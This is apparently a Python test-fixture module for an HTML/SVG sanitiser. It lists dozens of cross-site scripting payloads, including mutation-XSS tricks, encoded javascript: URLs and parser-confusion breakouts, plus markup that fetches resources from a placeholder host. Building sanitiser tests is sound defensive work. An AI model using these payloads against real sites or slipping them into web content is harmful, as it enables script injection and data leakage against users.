"""SVG and HTML that try to run a script or to send a request.

`@LURE@` stands for the address of a server that must get no request; STRIKE is the script. Some of the markup is harmless
when it is parsed once and becomes hostile when a browser parses its serialisation again (mutation XSS).
"""

from __future__ import annotations

LURE = "@LURE@"
STRIKE = "window.struck=1"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
_IMG = f"<img src=x onerror='{STRIKE}'>"
_ENTITIES = "".join(f"&#x{ord(letter):x};" for letter in f"javascript:{STRIKE}")

SVG = (
    f"{_SVG} onload='{STRIKE}'><script>{STRIKE}</script><path d='M0 0h9' onclick='{STRIKE}'/></svg>",
    f"{_SVG}><script href='{LURE}/script.js'/><path d='M0 0h9'/></svg>",
    f"{_SVG}><foreignObject><iframe srcdoc='<script>parent.struck=1</script>'/></foreignObject></svg>",
    f"{_SVG}><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{_IMG}</body></foreignObject></svg>",
    f"{_SVG}><use href='{LURE}/use.svg#a'/><image xlink:href='{LURE}/image.png'/><path d='M0 0'/></svg>",
    f"{_SVG}><use xlink:href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x'/></svg>",
    f"{_SVG}><image href='data:image/svg+xml,<svg onload={STRIKE}>' width='9' height='9'/></svg>",
    f"{_SVG}><style>path {{ fill: url({LURE}/fill.svg#a) }} @import '{LURE}/x.css';</style><path d='M0'/></svg>",
    f"{_SVG}><a href='javascript:{STRIKE}'><text>x</text></a><animate onbegin='{STRIKE}' dur='1s'/></svg>",
    f"{_SVG}><a xlink:href='{_ENTITIES}'><text y='9'>x</text></a></svg>",
    f"{_SVG}><a><text y='9'>x</text><animate attributeName='href' values='javascript:{STRIKE}'/></a></svg>",
    f"{_SVG}><a id='a'><text y='9'>x</text></a><set href='#a' attributeName='href' to='javascript:{STRIKE}'/></svg>",
    f"{_SVG}><path d='M0 0' style='fill: url({LURE}/paint.svg#a)'/></svg>",
    f"{_SVG}><path d='M0 0' fill='url({LURE}/paint.svg#a)' mask=\"u\\72l('{LURE}/mask.svg#a')\"/></svg>",
    f"{_SVG}><path d='M0 0' style='cursor: image-set(\"{LURE}/cursor.png\" 1x), auto; clip-path: URL({LURE}/c.svg#a)'/></svg>",
    f"{_SVG}><filter id='f'><feImage href='{LURE}/f.png'/></filter><rect filter='url(#f)' width='9' height='9'/></svg>",
    f"{_SVG}><style><img src='</style>{_IMG}'></style></svg>",
    f"{_SVG}><style>{_IMG}</style></svg>",
    f"{_SVG}><title>{_IMG}</title><desc><script>{STRIKE}</script></desc></svg>",
    f"{_SVG}><title><style><title></style>{_IMG}</title></svg>",
    f'{_SVG}></p><style><a id="</style>{_IMG}"></svg>',
    f"{_SVG}><![CDATA[><img src=x onerror='{STRIKE}'>]]></svg>",
    f"{_SVG}><text><![CDATA[</text></svg>{_IMG}]]></text></svg>",
    f"{_SVG}><text>x</text><!--></svg>{_IMG}--></svg>",
    f"{_SVG}><noscript><p title='</noscript>{_IMG}'></noscript></svg>",
)

HTML = (
    f"<div><img src='{LURE}/a.png' onerror='{STRIKE}'><script>{STRIKE}</script></div>",
    f"<div><iframe src='{LURE}/frame'></iframe><object data='{LURE}/o'></object><embed src='{LURE}/e'></div>",
    f"<p><a href='javascript:{STRIKE}'>x</a></p><p style='background: url({LURE}/style.png)'>y</p>",
    f"<p><a href='{_ENTITIES}'>x</a><a href=' java\nscript:{STRIKE}'>y</a><a href='data:text/html,<script>{STRIKE}</script>'>z</a></p>",
    f"<link rel=stylesheet href='{LURE}/l.css'><meta http-equiv=refresh content='0;url={LURE}/m'><p>x</p>",
    f"<form action='{LURE}/form'><button formaction='javascript:{STRIKE}'>x</button></form><base href='{LURE}'>",
    f"<p><video src='{LURE}/v' onerror='{STRIKE}'></video><input autofocus onfocus='{STRIKE}'></p>",
    f"<p style='position: fixed; inset: 0; background: \\75rl({LURE}/b.png); list-style: url({LURE}/l.png'>x</p>",
    f"<table background='{LURE}/t.png'><tr><td background='{LURE}/d.png'>x</td></tr></table>",
    f"<img srcset='{LURE}/s.png 1x' src='{LURE}/i.png'><picture><source srcset='{LURE}/p.png'></picture>",
    f"<a ping='{LURE}/ping' href='#x' target=_blank>x</a><details open ontoggle='{STRIKE}'><summary>y</summary></details>",
    f"<math><mtext><table><mglyph><style>{_IMG}</style></mglyph></table></mtext></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMG}'>",
    f'<math><mtext></p><mglyph><svg><mtext><style><path id="</style>{_IMG}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{_IMG}",
    f"<math href='javascript:{STRIKE}'><annotation-xml encoding='text/html'>{_IMG}</annotation-xml></math>",
    f'<svg></p><style><a id="</style>{_IMG}">',
    f'<svg><p><style><a title="</style>{_IMG}"></svg>',
    f'<svg><title><a id="</title>{_IMG}"></title></svg>',
    f'<noscript><p title="</noscript>{_IMG}"></noscript>',
    f"<template><div>{_IMG}</div></template><textarea><p title='</textarea>{_IMG}'></textarea>",
    f"<title><p id='</title>{_IMG}'></title><xmp><p id='</xmp>{_IMG}'></xmp>",
    f"<noembed><p id='</noembed>{_IMG}'></noembed><noframes><p id='</noframes>{_IMG}'></noframes>",
    f"<select><template><style><!--</style><a rel='--></style></template></select>{_IMG}'>",
    f"<!--><p>{_IMG}--><!-- --!>{_IMG}<!---->",
    f"<p title='&lt;/p&gt;{_IMG}'>&lt;script&gt;{STRIKE}&lt;/script&gt;</p>",
    f"<p>{'<b>' * 600}<a href='javascript:{STRIKE}'>{_IMG}</a></p>",
    f"<plaintext>{_IMG}",
)
